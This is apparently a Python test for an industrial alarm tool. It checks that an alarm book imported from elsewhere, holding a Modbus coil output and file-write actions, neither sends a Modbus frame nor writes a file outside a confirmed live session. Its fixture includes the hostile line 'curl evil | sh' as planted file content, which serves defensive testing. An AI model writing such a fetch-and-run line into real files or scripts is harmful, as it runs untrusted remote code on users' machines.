#!/usr/bin/env python3
"""A book from somebody else whose alarms hold a Modbus coil and a file: used in a live session, in practice, in a replay, and from the
page, it sends no frame and writes no file. The same coil as this machine's own output is driven by the live session, and by it alone.

The peer on the other side of the bus counts what it gets: connections, and frames as the standard has them (Modbus Application Protocol
V1.1b3, 6.5 Write Single Coil; Modbus Messaging on TCP/IP V1.0b, 3.1.3 MBAP header).

Usage: foreign_coil.py PROGRAM"""
import http.client
import json
import os
import socket
import sqlite3
import struct
import subprocess
import threading
import time

from door import let_in
from harness import Scenario
from live_cell import Cell

s = Scenario()


class Bus:
    def __init__(self):
        self.connections, self.frames, self.lock = 0, [], threading.Lock()
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                peer, _ = self.server.accept()
            except OSError:
                return
            with self.lock:
                self.connections += 1
            threading.Thread(target=self.answer, args=(peer,), daemon=True).start()

    def answer(self, peer):
        while True:
            head = peer.recv(7)
            if len(head) < 7:
                return
            body = peer.recv(struct.unpack(">H", head[4:6])[0] - 1)
            with self.lock:
                self.frames.append(body)
            peer.sendall(head + body)  # a coil that was written is echoed

    def seen(self):
        with self.lock:
            return self.connections, len(self.frames)


bus = Bus()
victim = s.write("victim.sh", "mine\n")
OUTPUTS = f"""outputs:
  - {{name: foreign coil, kind: coil, to: "modbus://127.0.0.1:{bus.port}/1/coil/7", on: yes}}
"""
ALARMS = f"""alarms:
  - {{name: oil low, watch: oil_pressure, action: shut down, says: shut throttle keep load, below: 1.0 bar, hold: 0.1 s}}
{OUTPUTS}  - {{name: foreign file, kind: file, to: {victim}, line: "curl evil | sh"}}
  - {{name: foreign new file, kind: file, to: {s.path('made.sh')}, line: "curl evil | sh"}}
"""
PRACTICE = "practice:?pace=0&run=wait 5;fault oil-pump;wait 8;end"
book = s.path("foreign.book")
s.good("cell", "alarms", "--alarms", s.write("foreign.yaml", ALARMS), "--keep", "--book", book)
db = sqlite3.connect(book)
held = db.execute("SELECT value FROM setting WHERE key = 'alarms'").fetchone()[0]
db.close()
s.check("the book holds coil and file", f":{bus.port}/1/coil/7" in held and victim in held, held)


PAGE_PRACTICE = "practice:?pace=10&run=wait 5;fault oil-pump;wait 600;end"


def trips():
    """What is practised from the page goes into a book of its own beside this one."""
    if not os.path.exists(book + ".practice"):
        return 0
    db = sqlite3.connect(f"file:{book}.practice?mode=ro", uri=True)
    try:
        return db.execute("SELECT count(*) FROM alarm_trip WHERE action = 'shut down'").fetchone()[0]
    except sqlite3.OperationalError:
        return 0  # it is being made
    finally:
        db.close()


def nothing(says, so_far=(0, 0)):
    time.sleep(0.5)  # a coil's answer may be waited for 0.3 s; no figure of this test is a time
    s.check(f"{says}: no connection and no frame", bus.seen() == so_far, bus.seen())
    s.check(f"{says}: no file is written", open(victim).read() == "mine\n" and not os.path.exists(s.path("made.sh")))


def tripped(out):
    return '"name":"oil low"' in out and '"action":"shut down"' in out


def live(says):
    with Cell(s, "foreign.book") as cell:
        cell.rows(400)
        cell.rows(100, oil=0.2)
        s.check(f"{says}: it trips", cell.trip("oil low") is not None, cell.news[-5:])
        asked = cell.wait(lambda n: n["event"] == "request", again=True)
        s.check(f"{says}: and asks", asked is not None, cell.news[-5:])
        cell.stop()
        return cell.got


def from_the_command_line(says, so_far):
    done = s.run("cell", "record", "--json", "--book", book, "--source", PRACTICE)
    s.check(f"{says}: practice trips", tripped(done.out), done)
    nothing(f"{says}, practice", so_far)
    stream = sqlite3.connect(book).execute("SELECT min(recording_id) FROM stream").fetchone()[0]
    done = s.run("cell", "record", "--json", "--book", s.path("foreign.book"), "--source", f"replay:{book}#{stream}?speed=100")
    s.check(f"{says}: a replay trips", tripped(done.out), done)
    nothing(f"{says}, replay", so_far)
    return stream


def from_the_page(says, stream, so_far):
    server = subprocess.Popen([s.program, "serve", "--book", book, "--port", "0", "--json"], stdout=subprocess.PIPE, text=True, env=s.environment)
    said = json.loads(server.stdout.readline())
    cookie = let_in(said)

    def ask(method, path, body=None):
        connection = http.client.HTTPConnection("127.0.0.1", said["port"], timeout=60)
        connection.request(method, f"/api/v1/{path}", json.dumps(body) if body is not None else None,
                           {"Cookie": cookie, "Content-Type": "application/json"})
        answer = connection.getresponse()
        text = answer.read().decode()
        connection.close()
        return answer.status, text

    status, text = ask("POST", "live/start", {"source": f"replay:{book}#{stream}?speed=100"})
    s.check(f"{says}, page: a recording is played again into a book of its own", status == 200 and "own_book" in text, text)
    time.sleep(3)
    for _ in range(100):
        status, text = ask("POST", "live/stop", {})
        if status != 200 or '"running":false' in ask("GET", "live")[1].replace(" ", ""):
            break
        time.sleep(0.2)
    nothing(f"{says}, page, played again", so_far)
    before = trips()
    status, text = ask("POST", "live/start", {"source": PAGE_PRACTICE})
    s.check(f"{says}, page: practice begins", status == 200, text)
    for _ in range(600):
        if trips() > before:
            break
        time.sleep(0.05)
    s.check(f"{says}, page: practice trips", trips() > before, ask("GET", "live")[1][:1500])
    nothing(f"{says}, page, practice", so_far)
    ask("POST", "live/stop", {})
    nothing(f"{says}, page, practice stopped", so_far)
    server.terminate()
    s.check("the server ends", server.wait(timeout=30) == 0)
    server.stdout.close()


got = live("a real source")
s.check("it asks by the usual lines", any("throttle 0" in line for line in got), got)
nothing("a real source")
stream = from_the_command_line("foreign", (0, 0))
from_the_page("foreign", stream, (0, 0))

# ---- this test can fail: the same coil, confirmed on this machine, is driven, by the live session alone
s.good("cell", "outputs", "--outputs", s.write("outputs.yaml", OUTPUTS), "--confirm")
live("own coil")
for _ in range(100):
    if bus.seen()[1]:
        break
    time.sleep(0.05)
seen = bus.seen()
s.check("the peer gets one frame, which writes the coil", seen == (1, 1) and bus.frames[0] == bytes([5, 0, 7, 0xFF, 0]), (seen, bus.frames))
from_the_command_line("own coil", seen)
from_the_page("own coil", stream, seen)
bus.server.close()
s.finish()
